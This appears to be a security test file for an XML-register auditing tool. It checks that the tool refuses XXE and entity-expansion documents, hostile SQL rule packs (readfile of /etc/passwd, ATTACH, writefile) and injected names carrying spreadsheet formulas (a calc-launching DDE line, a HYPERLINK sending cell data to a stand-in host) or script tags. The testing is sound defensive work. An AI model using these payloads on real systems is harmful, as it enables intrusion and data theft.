"""Of hostile.py: what stands in documents, packs and names."""
import contextlib
import csv
import html.parser
import json
import os
import re
import shutil
import sqlite3
import subprocess
import zipfile

from harness import (
    DATA, DIR, FULL, HECHA, Made, NUMBER, PLAN, ROOT, WATCHED, fresh, ok,
    place, rows, street, tree, usage, write,
)


# --- attacks

def village(more='', name='x'):
    return '<village code="379999001001" name="%s"%s/>' % (name, more)


def attack_files():
    """name, bytes: all but the last few must be refused"""
    secret = write('secret.txt', 'geheim')
    dtd = write('secret.dtd', '<!ENTITY s "geheim">')
    head, end = '<?xml version="1.0"?>', '</register>'

    def doc(doctype, body=None, root=ROOT):
        return head + doctype + root + (body or village()) + end
    lol = ''.join('<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10)
                  for i in range(1, 10))
    lol = '<!DOCTYPE r [<!ENTITY l0 "lol">%s]>' % lol
    yield 'xxe', doc('<!DOCTYPE r [<!ENTITY s SYSTEM "file://%s">]>' % secret,
                     village(name='&s;'))
    yield 'xxe-content', doc(
        '<!DOCTYPE r [<!ENTITY s SYSTEM "%s">]>' % secret, '&s;')
    yield 'xxe-net', doc(
        '<!DOCTYPE r [<!ENTITY s SYSTEM "http://127.0.0.1:9/a">]>', '&s;')
    yield 'parameter', doc(
        '<!DOCTYPE r [<!ENTITY %% p SYSTEM "file://%s">%%p;]>' % dtd)
    yield 'subset', doc('<!DOCTYPE r SYSTEM "%s">' % dtd)
    yield 'subset-net', doc('<!DOCTYPE r PUBLIC "x" "http://127.0.0.1:9/d">')
    yield 'laughs', doc(lol, '&l9;')
    yield 'laughs-attribute', doc(lol, village(name='&l9;'))
    yield 'quadratic', doc('<!DOCTYPE r [<!ENTITY a "%s">]>' % ('a' * 40000),
                           '&a;' * 10000)
    yield 'entities', doc('<!DOCTYPE r [%s]>' % ''.join(
        '<!ENTITY e%d "x">' % i for i in range(100000)))
    yield 'defaults', doc('<!DOCTYPE r [<!ATTLIST village name CDATA "x">]>')
    yield 'doctype-late', '<!-- %s -->' % ('x' * 100000) + doc(
        '<!DOCTYPE r [<!ENTITY a "b">]>', '&a;')
    yield 'doctype-utf16', doc('<!DOCTYPE r []>').encode('utf-16')
    yield 'utf7', b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'
    yield 'ebcdic', '<?xml version="1.0" encoding="IBM037"?><r/>'.encode('cp037')
    yield 'attributes', doc('', '<village %s/>' % ' '.join(
        'a%d="x"' % i for i in range(100000)))
    yield 'tag', doc('', village(name='x' * (11 << 20)))
    yield 'name', doc('', '<%s/>' % ('n' * 70000))
    yield 'depth', doc('', '<a>' * 300 + '</a>' * 300)
    yield 'deeper', doc('', '<a>' * 1000000)
    yield 'record', doc('', '<village>%s</village>' % ('x' * (17 << 20)))
    yield 'comment', doc('', '<!-- ' + 'x' * 100000)
    yield 'cdata', doc('', '<![CDATA[' + 'x' * 100000)
    yield 'reference', doc('', village(name='&nothing;'))
    yield 'two-roots', doc('') + doc('')[len(head):]
    yield 'nothing', ' ' * 1000000
    # refused or not: nothing else is opened
    hint = ROOT[:-1] + (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        ' xsi:schemaLocation="urn:hecha:1 %s"'
        ' xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd">')
    yield '+hint', doc('', root=hint % 'http://127.0.0.1:9/s.xsd')
    yield '+hint-file', doc('', root=hint % secret)
    yield '+include', doc('', '<xi:include parse="text" href="%s"'
                          ' xmlns:xi="http://www.w3.org/2001/XInclude"/>' % secret)
    yield '+sheet', doc('<?xml-stylesheet type="text/xsl" href="%s"?>' % secret)


def opened(trace):
    """what a traced program opened or connected to, but for what it always
    reads: itself, its data, libraries, the machine's settings"""
    own = (DATA, '/usr/', '/dev/urandom', '/lib', '/proc/', '/sys/', '/etc/ld.so',
           '/etc/localtime', '/etc/ssl', '/etc/gai', '/dev/null',
           os.environ.get('HECHA_LOCALEDIR', DATA), place('h.db'),
           os.path.dirname(os.path.realpath(HECHA)))
    found = set()
    with open(trace) as f:
        for line in f:
            m = re.search(r'open(?:at)?\((?:AT_FDCWD[^,]*, )?"([^"]*)".*= \d', line)
            path = os.path.normpath(m.group(1)) if m else ''
            if m and not path.startswith(own) and \
                    not os.path.realpath(m.group(1)).startswith(own):
                found.add(m.group(1))
            if 'connect(' in line:
                found.add('a connection: ' + line.strip())
    return found


def attacks():
    traced = shutil.which('strace') and not WATCHED and subprocess.run(
        ['strace', '-qq', '-o', '/dev/null', 'true'], check=False).returncode == 0
    fresh()
    good = write('a/good.xml', ROOT + village() + '</register>')
    _, base_time, base_size = usage('import', good)
    fresh()
    # all first: a process begins with the memory of the one that starts it
    files = [(name, write('a/%s.xml' % name.strip('+'), data))
             for name, data in attack_files()]
    for name, path in files:
        before = rows('SELECT COUNT(*) FROM hc_document')
        status, took, size = usage('import', path)
        if name[0] != '+':
            ok('%s is refused' % name, status == 3, status)
            ok('%s: nothing is stored' % name,
               rows('SELECT COUNT(*) FROM hc_document') == before)
        elif status not in (0, 3):
            ok('%s is looked at' % name, False, status)
        # what the program wants by itself is no fault of the file
        ok('%s: within half a second and 20 MB' % name,
           WATCHED or took - base_time < 0.5 and size - base_size < 20,
           '%.2f s, %.1f MB' % (took, size))
        if traced:
            trace = place('trace')
            Made('import', path, before=[
                'strace', '-f', '-qq', '-o', trace, '-e',
                'trace=open,openat,connect'])
            others = opened(trace) - {path, os.path.dirname(path)}
            others = {o for o in others if not o.startswith(
                ('/tmp/etilqs', '/var/tmp/etilqs', '/tmp/.hecha', place('h.db'),
                 DIR + '/.hecha'))}
            others -= {DIR}
            ok('%s: nothing else is opened' % name, not others, others)


# --- encodings

def encodings():
    common = '青石村寮犱笁'
    rare = common + '\U00020000\u3400' # beyond GBK
    for i, (label, codec, mark, name) in enumerate((
            ('UTF-8', 'utf-8', b'', rare), ('utf-8', 'utf-8', b'\xef\xbb\xbf', rare),
            (None, 'utf-8', b'', rare), ('GBK', 'gbk', b'', common + '镕'),
            ('gb2312', 'gbk', b'', common + '镕'), ('GB18030', 'gb18030', b'', rare),
            ('gb18030', 'gb18030', b'', rare), ('UTF-16', 'utf-16-le', b'\xff\xfe', rare),
            ('UTF-16', 'utf-16-be', b'\xfe\xff', rare),
            ('UTF-16LE', 'utf-16-le', b'', rare), ('UTF-16BE', 'utf-16-be', b'', rare),
            ("GBK'", 'gbk', b'', common))):
        fresh()
        said = '' if label is None else ' encoding="%s"' % label
        if label == "GBK'":
            said = " encoding='GBK'"
        text = '<?xml version="1.0"%s?>%s%s</register>' % (
            said, ROOT, village(name=name))
        made = Made('import', write('e/%d.xml' % i, mark + text.encode(codec)))
        got = rows('SELECT name FROM village')
        ok('%s as %s%s is read to the letter' % (
            label, codec, ' with a mark' if mark else ''),
           made.status == 0 and got == [(name,)], made.said + str(got))
    with open(PLAN, encoding='utf-8') as f:
        plan = f.read()
    for codec in ('gb18030', 'utf-16'):
        made = Made('init', '--plan', write('e/plan.xml', plan.replace(
            '"UTF-8"', '"%s"' % codec, 1).encode(codec)), db=codec + '.db')
        ok('so is a plan in %s' % codec, made.status == 0 and
           rows('SELECT id FROM hc_plan', codec + '.db') == rows(
               'SELECT id FROM hc_plan'), made.said)
    lines = ''.join('<village code="379999%06d" name="%s"/>\n' % (i, common)
                    for i in range(20000))
    whole = '<?xml version="1.0" encoding="%s"?>\n' + ROOT + '%s</register>'
    utf = (whole % ('UTF-8', lines)).encode()
    middle = len(utf) // 2
    for name, data in (
            ('GBK bytes called UTF-8', (whole % ('UTF-8', lines)).encode('gbk')),
            ('GBK bytes without a word', (whole % ('', lines)).replace(
                ' encoding=""', '').encode('gbk')),
            ('UTF-8 bytes called GBK', (whole % ('GBK', lines)).encode()),
            ('UTF-8 bytes called GB18030', (whole % ('GB18030', lines)).encode()),
            ('a byte that is none, in the middle',
             utf[:middle] + b'\xff' + utf[middle:]),
            ('a zero byte', utf[:middle] + b'\0' + utf[middle:]),
            ('a control character', utf[:middle] + b'\x0b' + utf[middle:]),
            ('an overlong character', utf[:middle] + b'\xc0\xaf' + utf[middle:]),
            ('half a pair', utf[:middle] + b'\xed\xa0\x80' + utf[middle:]),
            ('half a pair of UTF-16', b'\xff\xfe' + (whole % (
                'UTF-16', lines)).encode('utf-16-le')[:-40] + b'\x00\xd8' * 3),
            ('a character cut at the end', utf[:-12] + '村'.encode()[:2]),
            ('a control character by its number',
             (whole % ('UTF-8', lines[:-10] + village(name='&#27;'))).encode())):
        fresh()
        made = Made('import', write('e/bad.xml', data))
        left = sum(rows('SELECT COUNT(*) FROM ' + t)[0][0]
                   for t in ('hc_document', 'village'))
        ok('%s is refused' % name, made.status == 3 and 'bad.xml' in made.err,
           made.said)
        ok('%s: nothing is kept' % name, left == 0, left)


# --- lines

def lines():
    for far in (70003, 900000):
        fresh()
        body = ('\n' * (far - 3) + village(name='%s" code2="' % NUMBER) + '\n' +
                '<household id="h1" village="%s" size="%s"/>\n' % (NUMBER, NUMBER))
        made = Made('import', write('l/far.xml', ROOT + '\n\n' + body +
                                    '</register>'))
        ok('a bad record at line %d is told by it' % far,
           'far.xml:%d: ' % far in made.said and
           'far.xml:%d: ' % (far + 1) in made.said, made.said)
        ok('its number is masked', NUMBER not in made.said and
           '379999' in made.said, made.said)
    fresh()
    body = '<household id="h%d" village="379999001001" size="1">%s</household>'
    made = Made('import', write('l/huge.xml', ROOT + village() + '\n' + body % (
        1, '<member/>' * 100001) + body % (2, '') + '</register>'))
    ok('a record of too many parts is told as one, and no other is', made.status == 0
       and 'huge.xml:2: record h1: ' in made.said and rows(
           'SELECT id FROM household') == [('h2',)], made.said)


# --- queries

PACK = '''<?xml version="1.0" encoding="UTF-8"?>
<rules xmlns="urn:hecha:1" id="BAD" version="1" clause="3.2.1a">
<title xml:lang="zh">坏</title><title xml:lang="en">Bad</title>
<rule id="BAD-01" severity="notice" scope="whole" clause="3.2.1a" needs="register">
<title xml:lang="zh">坏</title><title xml:lang="en">Bad</title>
<message xml:lang="zh">坏。</message><message xml:lang="en">Bad.</message>
<remedy xml:lang="zh">无。</remedy><remedy xml:lang="en">None.</remedy>
<expected xml:lang="zh">无。</expected><expected xml:lang="en">None.</expected>
<sql><![CDATA[%s]]></sql>
<case title="one" expect="1"><register year="2026"><household id="h1"/></register></case>
</rule></rules>
'''
ONE = 'SELECT h.village, h.id AS household, h.document, h.line FROM household h'
LONG = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) '


def hostile_queries():
    out = place('cwd', 'stolen')
    yield 'ATTACH', "ATTACH '%s' AS x" % out
    yield 'attach of the database', "ATTACH '%s' AS x" % place('h.db')
    yield 'VACUUM', 'VACUUM'
    yield 'VACUUM INTO', "VACUUM INTO '%s'" % out
    yield 'DETACH', 'DETACH main'
    yield 'PRAGMA', 'PRAGMA writable_schema = ON'
    yield 'a pragma as a table', "SELECT name AS village FROM pragma_table_info('household')"
    yield 'DELETE', 'DELETE FROM household'
    yield 'UPDATE', "UPDATE household SET id = 'x'"
    yield 'INSERT', 'INSERT INTO household(id) VALUES(1)'
    yield 'DROP', 'DROP TABLE household'
    yield 'CREATE TABLE', 'CREATE TABLE x(a)'
    yield 'CREATE TEMP TABLE', 'CREATE TEMP TABLE x(a)'
    yield 'CREATE TRIGGER', ('CREATE TEMP TRIGGER x AFTER INSERT ON household'
                             ' BEGIN DELETE FROM household; END')
    yield 'CREATE VIEW', 'CREATE TEMP VIEW x AS SELECT 1'
    yield 'ALTER', 'ALTER TABLE household RENAME TO x'
    yield 'REINDEX', 'REINDEX'
    yield 'ANALYZE', 'ANALYZE'
    yield 'BEGIN', 'BEGIN'
    yield 'COMMIT', 'COMMIT'
    yield 'ROLLBACK', 'ROLLBACK'
    yield 'EXPLAIN', 'EXPLAIN ' + ONE
    yield 'two statements', ONE + '; DELETE FROM household'
    yield 'a table of the program', ONE + " WHERE EXISTS (SELECT 1 FROM hc_plan)"
    yield 'the schema', ONE + ' WHERE EXISTS (SELECT 1 FROM sqlite_schema)'
    yield 'the old schema', ONE + ' WHERE EXISTS (SELECT 1 FROM sqlite_master)'
    yield 'load_extension', ONE + " WHERE load_extension('/tmp/x') IS NULL"
    yield 'readfile', ONE + " WHERE readfile('/etc/passwd') IS NULL"
    yield 'writefile', ONE + " WHERE writefile('%s', 'x') IS NULL" % out
    yield 'fts3_tokenizer', ONE + " WHERE fts3_tokenizer('simple') IS NULL"
    yield 'printf', ONE + " WHERE printf('%.*c', 500000000, 'x') IS NULL"
    yield 'randomblob', ONE + ' WHERE randomblob(1000000000) IS NULL'
    yield 'zeroblob', ONE + ' WHERE zeroblob(1000000000) IS NULL'
    yield 'the time', ONE + " WHERE datetime('now') IS NULL"
    yield 'chance', ONE + ' WHERE random() = 1'


def endless_queries():
    yield 'recursion', LONG + (
        'SELECT NULL AS village, NULL AS household, i AS document, i AS line'
        ' FROM n WHERE i < 0')
    yield 'a product', ('SELECT a.village, a.id AS household, a.document, a.line'
                        ' FROM household a, code b, code c, code d, code e'
                        ' WHERE b.code || c.code || d.code || e.code = 1')
    yield 'a text that grows', (
        "WITH RECURSIVE n(i) AS (SELECT 'x' UNION ALL SELECT i || i FROM n)"
        " SELECT NULL AS village, i AS household, 1 AS document, 1 AS line FROM n")
    yield 'all texts in one', LONG + (
        "SELECT NULL AS village, group_concat(i) AS household, 1 AS document,"
        " 1 AS line FROM n")
    yield 'a sort', LONG + (
        'SELECT NULL AS village, NULL AS household, i AS document, i AS line'
        ' FROM n ORDER BY -i')
    yield 'long texts', LONG + (
        "SELECT NULL AS village, NULL AS household, i AS document, i AS line"
        " FROM n WHERE length(replace(replace(replace('aaaaaaaaaaaaaaaaaaaa',"
        " 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a',"
        " 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaa')) < 0")


def queries():
    fresh()
    os.mkdir(place('cwd'))
    Made('import', os.path.join(DATA, 'fixtures/minimal/register.xml'))
    os.mkdir(place('packs'))
    with contextlib.closing(sqlite3.connect(place('h.db'))) as db:
        held = list(db.iterdump())
    before = None
    for name, sql in hostile_queries():
        pack = write('pack.xml', PACK % sql)
        before = before or tree(DIR)
        made = Made('rules', 'lint', pack, cwd=place('cwd'))
        ok('%s is no check' % name, made.status in (1, 3), made.said)
        made = Made('check', '--rules', pack, cwd=place('cwd'))
        ok('%s: nor made' % name, made.status == 3 and 'BAD-01' in made.said,
           made.said)
        now = tree(DIR)
        for t in (before, now):
            t.pop(place('pack.xml'), None)
        ok('%s: nothing is changed' % name, now == before,
           set(now.items()) ^ set(before.items()))
    seconds = 2 if FULL else 1
    for name, sql in list(endless_queries())[:None if FULL else 2]:
        pack = write('pack.xml', PACK % sql)
        made = Made('--verbose', 'check', '--rules', pack, '--only', 'BAD',
                    '--reason', 'x', '--rule-seconds', str(seconds), cwd=place('cwd'))
        took = re.search(r'BAD-01: (\d+) ms', made.said)
        ok('%s is stopped in time' % name, made.status in (1, 3, 4) and
           ('not authorized' in made.said or
            WATCHED or took and int(
                took.group(1)) < 1000 * seconds + 100), made.said)
        if not FULL:
            continue
        # a case of its own is given ten seconds
        made = Made('rules', 'lint', pack, cwd=place('cwd'), limit=60)
        ok('%s is stopped by lint' % name, made.status in (1, 3), made.said)
    with contextlib.closing(sqlite3.connect(place('h.db'))) as db:
        households = db.execute('SELECT COUNT(*) FROM household').fetchone()
    ok('the records are there', ('INSERT INTO "household"' in ''.join(held)) ==
       (households[0] > 0))


# --- names

NASTY = (
    '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '＝1+1', '＋1+1', '－1+1',
    '＠SUM(1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://e/?"&A1,"x")',
    '=WEBSERVICE("http://e/")', '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '</script><script>alert(1)</script>',
    'javascript:alert(1)', '<svg onload=alert(1)>', '&lt;b&gt;&amp;amp;',
    '"," =1+1', '-->]]><b>', '{{7*7}}${7*7}', ' =1+1', '\u202e=1+1',
    '％=1', 'a\n=1+1')


class Page(html.parser.HTMLParser):
    """elements and attributes that a page has"""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.seen = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith('on'):
                self.seen.add((tag, name))
            if (value or '').strip().lower().startswith('javascript:'):
                self.seen.add((tag, 'javascript'))
        if tag in ('img', 'svg', 'b', 'iframe', 'object'):
            self.seen.add((tag, ''))
        if tag == 'script':
            self.seen.add((tag, len([1 for s in self.seen if s[0] == tag])))


def sheets(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith('.xml'):
                yield name, z.read(name).decode()


def names():
    pages = {}
    for what, used in (('nasty', NASTY), ('plain', ['王石'] * len(NASTY))):
        path = write('n/%s.xml' % what, street(used))
        made = Made('audit', PLAN, path, '-o', place(what))
        if made.status not in (1, 3):
            ok('an audit of %s names' % what, False, made.said)
        pages[what] = {
            f: Page(open(place(what, f), encoding='utf-8').read()).seen
            for f in sorted(os.listdir(place(what))) if f.endswith('.html')}
    kept = rows('SELECT COUNT(*) FROM household', 'nasty/hecha.db')[0][0]
    ok('names that are no good are names', kept >= 20, kept)
    for page, seen in pages['nasty'].items():
        more = seen - pages['plain'].get(page, set())
        ok('%s has no element or handler by a name' % page, not more, more)
    db = 'nasty/hecha.db'
    for kind in ('problems', 'acceptance', 'visits'):
        out = place('nasty', kind + '-2.xlsx')
        made = Made('report', kind, '-f', 'xlsx', '-o', out, db=db)
        parts = dict(sheets(out)) if made.status == 0 else {}
        # what the program itself counts with stands in its own sheets' cells
        formulas = [f for p, t in parts.items() if 'worksheets' in p
                    for f in re.findall(r'<f>(.*?)</f>', t)
                    if any(n in f for n in ('cmd|', 'e/?', 'WEBSERVICE', '1+1',
                                            'SUM(1)'))]
        ok('%s.xlsx has no formula by a name' % kind,
           made.status == 0 and parts and not formulas, formulas or made.said)
        links = [t for p, t in parts.items() if p.endswith('.rels') and
                 'http://e/' in t]
        ok('%s.xlsx has no link by a name' % kind, not links, links)
    for how, args in (('report', ('report', 'problems', '-f', 'csv', '-o',
                                  place('out.csv'))),
                      ('findings', ('findings', '-f', 'csv'))):
        made = Made(*args, db=db)
        text = open(place('out.csv'), encoding='utf-8-sig', newline='').read() \
            if how == 'report' else made.out
        bad = [c for r in csv.reader(text.splitlines(True)) for c in r
               if c[:1] in tuple('=+@＝＋＠\t\r\n') or
               c[:1] in ('-', '－') and not re.fullmatch(r'-?[0-9.]*', c)]
        ok('no cell of %s as CSV is a formula' % how, len(text) > 1000 and not bad,
           bad[:10] or made.said)
    made = Made('findings', '-f', 'json', db=db)
    found = json.loads(made.out)
    ok('JSON has them as they are', any('<script>' in json.dumps(
        f, ensure_ascii=False) for f in found))
    made = Made('report', 'problems', '-f', 'sarif', '-o', place('o.sarif'), db=db)
    ok('SARIF is whole', made.status == 0 and json.load(
        open(place('o.sarif'), encoding='utf-8')), made.said)
    for kind in ('self-check', 'acceptance'):
        out = place(kind + '.docx')
        made = Made('report', kind, '-f', 'docx', '-o', out, db=db)
        fields = [t for _, t in sheets(out) if 'HYPERLINK "http://e/' in t or
                  'http://e/' in ''.join(re.findall(r'Target="([^"]*)"', t))]
        ok('%s.docx has no field by a name' % kind, not fields, fields)


# --- digits

def digits():
    """numbers with a wrong check digit: each is told in full where asked"""
    right = '10X98765432'
    numbers = []
    for i in range(40 if FULL else 20):
        seventeen = '379999%d%02d%02d%03d' % (1950 + i, i % 12 + 1, i % 28 + 1, i + 101)
        good = right[sum(int(c) * 2 ** (17 - k) for k, c in
                         enumerate(seventeen)) % 11]
        numbers.append(seventeen + ('X' if good != 'X' and i % 2 else
                                    '0' if good != '0' else '1'))
    body = ''.join(
        '<household id="h%d" village="379999001001" head-name="王石" class="none"'
        ' size="1"><member id="m%d" relation="01" name="王石" number="%s"'
        ' sex="1" health="01"/></household>' % (i, i, n)
        for i, n in enumerate(numbers))
    path = write('d/r.xml', ROOT + village() + body + '</register>')
    made = Made('audit', PLAN, path, '--unmasked', '-o', place('out'))
    ok('an audit', made.status == 1, made.said)
    db = 'out/hecha.db'
    for kind, form in (('problems', 'xlsx'), ('problems', 'csv'),
                       ('problems', 'json'), ('problems', 'xml'),
                       ('self-check', 'html'), ('visits', 'xlsx')):
        out = place('%s.%s' % (kind, form))
        made = Made('report', kind, '-f', form, '-o', out, '--unmasked', db=db)
        with open(out, 'rb') as f:
            data = f.read()
        if data[:2] == b'PK':
            data = ''.join(t for _, t in sheets(out)).encode()
        lost = [n for n in numbers if n.encode() not in data]
        ok('%s as %s has each number' % (kind, form), made.status == 0 and
           not lost, '%d lost, such as %s: %s' % (
               len(lost), lost[:2], made.said))
    made = Made('findings', '-f', 'csv', '--unmasked', db=db)
    ok('findings as CSV', not [n for n in numbers if n not in made.out], made.said)
    made = Made('export', 'register', '-o', place('e.xlsx'), db=db)
    fresh()
    again = Made('import', place('e.xlsx'))
    back = [r[0] for r in rows('SELECT number FROM member')]
    ok('ledgers bring them back', made.status == 0 and sorted(map(
        str, back)) == sorted(numbers), made.said + again.said)
    text = '户编号,村,人口编号,姓名,证件号码\n' + ''.join(
        'h%d,柳泉村,m%d,王石,%s\n' % (i, i, n) for i, n in enumerate(numbers))
    for codec in ('utf-8-sig', 'gb18030'):
        fresh()
        write('t/村.csv', '村代码,村名称\n379999001001,柳泉村\n'.encode(codec))
        write('t/人.csv', text.encode(codec))
        again = Made('import', place('t'), '--division',
                     '379999001', '--year', '2026', '--source', 'current',
                     '--exported', '2026-11-20')
        back = [r[0] for r in rows('SELECT number FROM member')]
        ok('so does a table in %s' % codec, sorted(back) == sorted(numbers),
           again.said)
